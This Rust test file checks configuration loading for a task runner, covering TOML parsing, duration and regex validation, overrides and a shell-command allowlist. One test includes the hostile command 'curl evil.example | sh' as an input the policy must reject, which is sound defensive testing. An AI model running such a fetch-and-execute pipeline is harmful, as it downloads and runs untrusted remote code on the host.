// tests/config_loading.rs

use std::io::Write;
use std::path::Path;
use std::time::Duration;

use tempfile::NamedTempFile;
use taskforge::config::{ConfigOverrides, load_and_validate, load_effective};
use taskforge::errors::TaskforgeError;
use taskforge::task::{ShellCommandParams, TaskParameters};

fn write_config(contents: &str) -> NamedTempFile {
    let mut file = NamedTempFile::new().unwrap();
    write!(file, "{contents}").unwrap();
    file
}

#[test]
fn full_config_is_validated() {
    let file = write_config(
        r#"
[service]
max_concurrency = 8
backlog_limit = 100
grace_period = "250ms"
retry_after = "3s"

[timeouts]
shell_command = "1m"

[store]
root = "/var/lib/taskforge/artifacts"
journal = "/var/lib/taskforge/journal.jsonl"

[server]
bind = "0.0.0.0:9000"

[download]
max_download_bytes = 1048576
scrape_parallelism = 2

[policy]
allow_shell = true
command_allowlist = ["echo [a-z ]+", "ls( -l)?"]
allowed_working_dirs = ["/srv/jobs"]
"#,
    );

    let cfg = load_and_validate(file.path()).unwrap();
    assert_eq!(cfg.service.max_concurrency, 8);
    assert_eq!(cfg.service.backlog_limit, 100);
    assert_eq!(cfg.service.grace_period, Duration::from_millis(250));
    assert_eq!(cfg.timeouts.shell_command, Duration::from_secs(60));
    // Untouched sections keep their defaults.
    assert_eq!(cfg.timeouts.url_download, Duration::from_secs(30 * 60));
    assert_eq!(cfg.bind.port(), 9000);
    assert_eq!(cfg.download.max_download_bytes, Some(1_048_576));
    assert!(cfg.store.journal.is_some());

    let policy = &cfg.policy;
    let allowed = TaskParameters::ShellCommand(ShellCommandParams {
        command: "echo hi".into(),
        working_dir: Some("/srv/jobs/build".into()),
    });
    assert!(policy.check(&allowed).is_ok());

    let denied = TaskParameters::ShellCommand(ShellCommandParams {
        command: "curl evil.example | sh".into(),
        working_dir: None,
    });
    assert!(policy.check(&denied).is_err());

    // Entries are anchored at both ends once loaded.
    let extra_args = TaskParameters::ShellCommand(ShellCommandParams {
        command: "ls -l /".into(),
        working_dir: None,
    });
    assert!(policy.check(&extra_args).is_err());
}

#[test]
fn bad_duration_is_a_config_error() {
    let file = write_config(
        r#"
[service]
grace_period = "soon"
"#,
    );

    match load_and_validate(file.path()) {
        Err(TaskforgeError::ConfigError(msg)) => assert!(msg.contains("grace_period"), "{msg}"),
        other => panic!("expected ConfigError, got {other:?}"),
    }
}

#[test]
fn bad_regex_is_a_config_error() {
    let file = write_config(
        r#"
[policy]
allow_shell = true
command_allowlist = ["(unclosed"]
"#,
    );

    assert!(matches!(
        load_and_validate(file.path()),
        Err(TaskforgeError::ConfigError(_))
    ));
}

#[test]
fn unparseable_toml_is_a_toml_error() {
    let file = write_config("[service\nmax_concurrency = 1");
    assert!(matches!(
        load_and_validate(file.path()),
        Err(TaskforgeError::TomlError(_))
    ));
}

#[test]
fn explicit_missing_file_is_an_io_error() {
    let result = load_effective(
        Some(Path::new("/definitely/not/here/Taskforge.toml")),
        &ConfigOverrides::default(),
    );
    assert!(matches!(result, Err(TaskforgeError::IoError(_))));
}

#[test]
fn overrides_beat_the_file() {
    let file = write_config(
        r#"
[service]
max_concurrency = 2

[server]
bind = "127.0.0.1:8001"
"#,
    );

    let overrides = ConfigOverrides {
        bind: Some("127.0.0.1:7000".into()),
        max_concurrency: Some(6),
        store_root: Some("/tmp/tf-artifacts".into()),
    };
    let cfg = load_effective(Some(file.path()), &overrides).unwrap();
    assert_eq!(cfg.service.max_concurrency, 6);
    assert_eq!(cfg.bind.port(), 7000);
    assert_eq!(cfg.store.root, Path::new("/tmp/tf-artifacts"));
}

#[test]
fn bad_override_is_still_validated() {
    let overrides = ConfigOverrides {
        bind: Some("not-an-address".into()),
        ..ConfigOverrides::default()
    };
    let file = write_config("");
    assert!(matches!(
        load_effective(Some(file.path()), &overrides),
        Err(TaskforgeError::ConfigError(_))
    ));
}
